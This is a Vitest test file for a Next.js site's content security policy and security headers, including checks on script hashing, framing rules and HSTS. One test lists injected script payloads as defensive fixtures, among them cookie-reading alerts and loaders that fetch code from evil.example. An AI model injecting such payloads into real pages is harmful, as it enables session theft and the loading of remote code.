import { describe, expect, it } from "vitest";
import crypto from "node:crypto";
import { baseSecurityHeaders, contentSecurityPolicy, inlineScriptHashes, isFrameworkScript, isNewsroomPath, SECURITY_HEADER_NAMES } from "./headers.mjs";

const sha = (text: string) => `'sha256-${crypto.createHash("sha256").update(text).digest("base64")}'`;
const scriptSrcOf = (csp: string) => csp.split("; ").find((d) => d.startsWith("script-src "))!.split(" ");

// The inline scripts of a real App Router document, as Next writes them.
const TURBOPACK = '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/310vm2bl3xxpt.js","static/chunks/1f_al6zskebu9.js"],"runtimeModuleIds":[94553]});';
const BOOTSTRAP = "(self.__next_f=self.__next_f||[]).push([0])";
const PAYLOAD = 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n2:I[39756,[],\\"default\\"]\\n\\u003cp\\u003e"])';
const BINARY = 'self.__next_f.push([3,"AAEC"])';
const FORM_STATE = `${BOOTSTRAP};self.__next_f.push([2,null])`;
const page = (injected = "") =>
  `<!DOCTYPE html><html><head><script src="/_next/static/a.js" async=""></script></head><body><article>${injected}</article>` +
  `<script id="_R_">${TURBOPACK}</script><script>${BOOTSTRAP}</script><script>${PAYLOAD}</script>` +
  `<script type="application/ld+json">{"@type":"NewsArticle"}</script></body></html>`;

describe("content security policy", () => {
  it("allows the framework's inline scripts by hash, never 'unsafe-inline' scripts", () => {
    const src = scriptSrcOf(contentSecurityPolicy(page(), { frameable: false }));
    expect(src).toEqual(["script-src", "'self'", sha(TURBOPACK), sha(BOOTSTRAP), sha(PAYLOAD)]);
    expect(src.join(" ")).not.toMatch(/unsafe-(inline|eval|hashes)/);
    expect(contentSecurityPolicy(page(), { frameable: false })).toContain("frame-ancestors 'none'");
    expect(contentSecurityPolicy(page(), { frameable: false })).toContain("object-src 'none'");
  });

  it("refuses a script injected into a rendered page: only the page's own scripts are hashed", () => {
    const injected = [
      "<script>alert(1)</script>",
      '<script nonce="n">alert(document.cookie)</script>',
      '<SCRIPT type="module">import("//evil.example/x.js")</SCRIPT>',
      '<script type="text/javascript">fetch("/api/stories")</script>',
      // Dressed up as the framework's own calls, with code riding along.
      '<script>self.__next_f.push([1,"x"]);alert(1)</script>',
      "<script>self.__next_f.push([1,alert(1)])</script>",
      '<script>self.__next_f.push([1,"x"],alert(1))</script>',
      `<script>${BOOTSTRAP};alert(1)</script>`,
      '<script>(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":[],"runtimeModuleIds":[],"x":alert(1)});</script>',
      '<script>(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["https://evil.example/x.js"],"runtimeModuleIds":[1]});</script>',
    ];
    const clean = scriptSrcOf(contentSecurityPolicy(page(), { frameable: true }));
    for (const script of injected) {
      const text = /<script[^>]*>([\s\S]*)<\/script>/i.exec(script)![1]!;
      const src = scriptSrcOf(contentSecurityPolicy(page(script), { frameable: true }));
      expect(src, script).not.toContain(sha(text));
      expect(src, script).toEqual(clean);
    }
  });

  it("knows every shape Next writes: bootstrap, form state, text and binary payload chunks, the chunk loader", () => {
    for (const text of [BOOTSTRAP, FORM_STATE, PAYLOAD, BINARY, TURBOPACK]) expect(isFrameworkScript(text), text).toBe(true);
    for (const text of ["", "alert(1)", 'self.__next_f.push([0,"x"])', 'self.__next_f.push([1,"x"]).then(alert)', `${BOOTSTRAP};self.__next_f.push([1,"x"])`]) {
      expect(isFrameworkScript(text), text).toBe(false);
    }
  });

  it("hashes no external script and no JSON-LD data block", () => {
    expect(inlineScriptHashes('<script src="/x.js"></script>')).toEqual([]);
    expect(inlineScriptHashes(`<script src="/x.js">${BOOTSTRAP}</script>`)).toEqual([]);
    expect(inlineScriptHashes('<script type="application/ld+json">{"a":1}</script>')).toEqual([]);
    expect(inlineScriptHashes("<p>no scripts</p>")).toEqual([]);
  });

  it("lets the public site frame itself only, and never the newsroom", () => {
    expect(contentSecurityPolicy("", { frameable: true })).toContain("frame-ancestors 'self'");
    expect(isNewsroomPath("/desk/stories/1")).toBe(true);
    expect(isNewsroomPath("/login")).toBe(true);
    expect(isNewsroomPath("/media-center/coalition-news/story")).toBe(false);
    expect(isNewsroomPath("/desktop-news")).toBe(false);
  });

  it("sends HSTS only over HTTPS and DENY framing for the desk", () => {
    expect(baseSecurityHeaders({ https: false, desk: false })).not.toHaveProperty("Strict-Transport-Security");
    expect(baseSecurityHeaders({ https: true, desk: true })).toMatchObject({ "Strict-Transport-Security": expect.stringContaining("max-age="), "X-Frame-Options": "DENY" });
    expect(baseSecurityHeaders({ https: false, desk: false })).toMatchObject({ "X-Content-Type-Options": "nosniff", "Referrer-Policy": "strict-origin-when-cross-origin" });
  });
});

describe("the list of security header names", () => {
  it("covers every header the server sets, so the page cache never drops one", () => {
    const names = Object.keys(baseSecurityHeaders({ https: true, desk: true })).map((n) => n.toLowerCase());
    for (const name of names) expect(SECURITY_HEADER_NAMES.has(name), name).toBe(true);
  });
});
